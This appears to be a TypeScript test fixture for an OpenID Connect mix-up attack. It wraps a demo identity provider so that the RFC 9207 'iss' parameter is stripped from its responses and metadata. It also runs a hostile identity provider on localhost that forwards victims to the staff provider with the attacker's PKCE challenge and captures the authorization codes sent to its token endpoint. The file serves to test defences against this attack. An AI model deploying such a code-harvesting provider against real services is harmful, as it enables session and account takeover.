/**
 * The two identity providers of an OIDC mix-up: the staff IdP as Entra ID and Google behave (no
 * RFC 9207 `iss` in its answers, none advertised), and a hostile IdP that passes a person on to
 * the staff IdP with their login's `state` but the attacker's own PKCE challenge and nonce
 * (taken from a login the attacker started), and keeps any code sent to its token endpoint.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { DemoIdp } from '../../proxy/demo/idp.js';

/** `idp`'s handler, its answers stripped of `iss` and its metadata of saying it sends one. */
export function withoutIss(idp: DemoIdp) {
  return (req: IncomingMessage, res: ServerResponse) => {
    const setHeader = res.setHeader.bind(res);
    res.setHeader = (name: string, value: number | string | readonly string[]) => {
      if (name.toLowerCase() === 'location' && typeof value === 'string' && value.includes('?')) {
        const url = new URL(value);
        url.searchParams.delete('iss');
        return setHeader(name, url.href);
      }
      return setHeader(name, value);
    };
    if (!(req.url ?? '').includes('openid-configuration')) return idp.handler(req, res);
    const chunks: Buffer[] = [];
    const end = res.end.bind(res);
    res.write = ((chunk: Buffer | string) =>
      chunks.push(Buffer.from(chunk)) > 0) as typeof res.write;
    res.end = ((chunk?: Buffer | string) => {
      if (chunk) chunks.push(Buffer.from(chunk));
      const metadata = JSON.parse(Buffer.concat(chunks).toString()) as Record<string, unknown>;
      delete metadata.authorization_response_iss_parameter_supported;
      const body = JSON.stringify(metadata);
      res.setHeader('content-length', Buffer.byteLength(body));
      return end(body);
    }) as typeof res.end;
    return idp.handler(req, res);
  };
}

export interface HostileIdp {
  issuer: string;
  /** The staff authorization URL of the attacker's own login, whose checks the victim carries. */
  passOnTo: URL | undefined;
  /** Codes that reached its token endpoint. */
  codes: string[];
  close(): Promise<void>;
}

export async function startHostileIdp(): Promise<HostileIdp> {
  const hostile: HostileIdp = { issuer: '', passOnTo: undefined, codes: [], close: async () => {} };
  const server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', hostile.issuer);
    if (url.pathname === '/.well-known/openid-configuration') {
      res.setHeader('content-type', 'application/json');
      return res.end(
        JSON.stringify({
          issuer: hostile.issuer,
          authorization_endpoint: `${hostile.issuer}/authorize`,
          token_endpoint: `${hostile.issuer}/token`,
          jwks_uri: `${hostile.issuer}/jwks`,
          response_types_supported: ['code'],
          subject_types_supported: ['public'],
          id_token_signing_alg_values_supported: ['ES256'],
        }),
      );
    }
    if (url.pathname === '/authorize' && hostile.passOnTo) {
      const onward = new URL(hostile.passOnTo.href);
      onward.searchParams.set('state', url.searchParams.get('state') ?? '');
      res.writeHead(302, { location: onward.href });
      return res.end();
    }
    if (url.pathname === '/token') {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        const code = new URLSearchParams(body).get('code');
        if (code) hostile.codes.push(code);
        res.writeHead(400, { 'content-type': 'application/json' });
        res.end('{"error":"invalid_grant"}');
      });
      return;
    }
    res.writeHead(404);
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  hostile.issuer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  hostile.close = () => new Promise((resolve) => server.close(() => resolve()));
  return hostile;
}
